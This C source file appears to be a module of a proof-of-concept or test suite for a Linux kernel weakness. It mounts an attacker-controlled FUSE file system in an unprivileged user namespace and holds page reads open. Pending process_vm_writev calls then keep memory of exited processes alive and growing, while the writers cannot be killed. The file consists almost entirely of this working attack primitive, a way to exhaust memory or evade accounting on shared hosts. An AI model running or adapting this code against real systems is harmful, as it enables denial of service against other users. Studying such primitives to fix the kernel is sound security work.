/*
 * Address spaces whose processes have exited while others write to their memory, in a system call that a file system of
 * the attacker blocks: the memory remains, although no process has it, and grows with each reply of the file system. The writers cannot be killed while that file system is served.
 */
#include "common.h"
#include <linux/fuse.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>

/* Maximum number of writers, and the pages of the file that each of them needs. */
#define WRITERS 16
#define STEPS 80

struct writer {
	_Atomic __u64 blocked; /* the request that it waits for; 0: none */
	_Atomic int released; /* its reads fail */
};

static int fuse;
static struct writer writers[WRITERS];

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	must(fd != -1 && write(fd, text, strlen(text)) == (long)strlen(text), path);
	close(fd);
}

/* Mounts a file system whose root is a regular file, on "/tmp/file" of a namespace of its own. */
static void mount_fuse(void)
{
	int uid = getuid(), gid = getgid();
	char text[64];

	must(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "unshare");
	write_file("/proc/self/setgroups", "deny");
	snprintf(text, sizeof(text), "%d %d 1", uid, uid);
	write_file("/proc/self/uid_map", text);
	snprintf(text, sizeof(text), "%d %d 1", gid, gid);
	write_file("/proc/self/gid_map", text);
	must(mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0, "tmpfs");
	close(open("/tmp/file", O_CREAT | O_WRONLY, 0600));
	fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	snprintf(text, sizeof(text), "fd=%d,rootmode=100000,user_id=%d,group_id=%d", fuse, uid, gid);
	must(fuse != -1 && mount("fuse", "/tmp/file", "fuse", 0, text) == 0, "fuse");
}

/* Fails if the process that waits for the reply was killed. */
static int reply(__u64 unique, const void *body, size_t length)
{
	char packet[PAGE + 512];
	struct fuse_out_header header = { .len = sizeof(header) + length, .unique = unique };

	memcpy(packet, &header, sizeof(header));
	memcpy(packet + sizeof(header), body, length);
	return write(fuse, packet, header.len) == header.len;
}

/* Answers the request that a writer waits for, if there is one. */
static inline void advance(struct writer *writer)
{
	static const char data[PAGE];
	__u64 unique = atomic_exchange(&writer->blocked, 0);

	if (unique)
		reply(unique, data, sizeof(data));
}

static void fail(__u64 unique)
{
	struct fuse_out_header failed = { .len = sizeof(failed), .error = -EIO, .unique = unique };

	must(write(fuse, &failed, sizeof(failed)) == sizeof(failed), "reply");
}

/* Has the read that a writer waits for fail: the writer ends, and the memory is freed. */
static inline void release(struct writer *writer)
{
	__u64 unique;

	writer->released = 1;
	unique = atomic_exchange(&writer->blocked, 0);
	if (unique)
		fail(unique);
}

static void on_read(__u64 unique, __u64 offset)
{
	struct writer *writer = &writers[offset / PAGE / STEPS % WRITERS];

	if (writer->released)
		fail(unique);
	else
		writer->blocked = unique;
}

/* Answers all requests, but reads only when their writers may continue. */
static void *serve(void *argument)
{
	static char request[256 * 1024];

	(void)argument;
	while (read(fuse, request, sizeof(request)) > 0) {
		const struct fuse_in_header *header = (void *)request;
		const struct fuse_read_in *wanted = (void *)(header + 1);
		struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = PAGE };
		struct fuse_attr_out attributes = { .attr = { .ino = 1, .size = WRITERS * STEPS * PAGE, .mode = 0100600, .nlink = 1, .uid = getuid() } };
		/* Otherwise a second open waits for the reads of the first. */
		struct fuse_open_out opened = { .open_flags = FOPEN_KEEP_CACHE };

		switch (header->opcode) {
		case FUSE_INIT:
			must(reply(header->unique, &init, sizeof(init)), "reply");
			break;
		case FUSE_GETATTR:
			must(reply(header->unique, &attributes, sizeof(attributes)), "reply");
			break;
		case FUSE_OPEN:
			must(reply(header->unique, &opened, sizeof(opened)), "reply");
			break;
		case FUSE_READ:
			on_read(header->unique, wanted->offset);
			break;
		default:
			break;
		}
	}
	return NULL;
}

/* Each step waits for a page of the file, and then writes `growth` bytes that are not there yet. */
static void block_on(pid_t pid, char *memory, long growth, int writer)
{
	int file = open("/tmp/file", O_RDONLY | O_CLOEXEC);
	struct iovec from[STEPS][2], to[STEPS][2];
	char *data, *zeros = map(growth + PAGE, MAP_PRIVATE);
	struct stat status;

	/* Makes the kernel request the size. */
	must(file != -1 && fstat(file, &status) == 0, "open");
	data = mmap(NULL, STEPS * PAGE, PROT_READ, MAP_PRIVATE, file, (long)writer * STEPS * PAGE);
	/* Without reading ahead, so that no writer waits for another's page. */
	must(data != MAP_FAILED && madvise(data, STEPS * PAGE, MADV_RANDOM) == 0, "mmap");
	for (int step = 0; step < STEPS; step++) {
		char *at = memory + step * (growth + PAGE);

		from[step][0] = (struct iovec){ data + step * PAGE, PAGE };
		to[step][0] = (struct iovec){ at, PAGE };
		from[step][1] = (struct iovec){ zeros, growth };
		to[step][1] = (struct iovec){ at + PAGE, growth };
	}
	process_vm_writev(pid, from[0], 2 * STEPS, to[0], 2 * STEPS, 0);
	_exit(0);
}

/* Fills memory in a process that exits, and is written to by another one: it grows by `growth` with each step. */
static void keep_dead(long bytes, long growth, int writer)
{
	long all = bytes + STEPS * (growth + PAGE);
	char byte, *memory = map(all, MAP_PRIVATE | MAP_NORESERVE);
	int ready[2];
	pid_t pid;

	must(writer < WRITERS && pipe(ready) == 0, "pipe");
	pid = fork();
	must(pid != -1, "fork");
	if (pid == 0) {
		close(fuse);
		prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
		touch(memory, bytes);
		must(write(ready[1], "r", 1) == 1, "write");
		pause_ms(200);
		_exit(0);
	}
	close(ready[1]);
	if (read(ready[0], &byte, 1) == 1 && fork() == 0) {
		/* The connection ends with the server; otherwise the writer could not be killed. */
		close(fuse);
		block_on(pid, memory + bytes, growth, writer);
	}
	close(ready[0]);
	pause_ms(250);
	waitpid(pid, NULL, 0);
	munmap(memory, all);
}

/* Starts the file system; to be called once. */
static void start_blocking(void)
{
	pthread_t server;

	mount_fuse();
	must(pthread_create(&server, NULL, serve, NULL) == 0, "pthread_create");
}
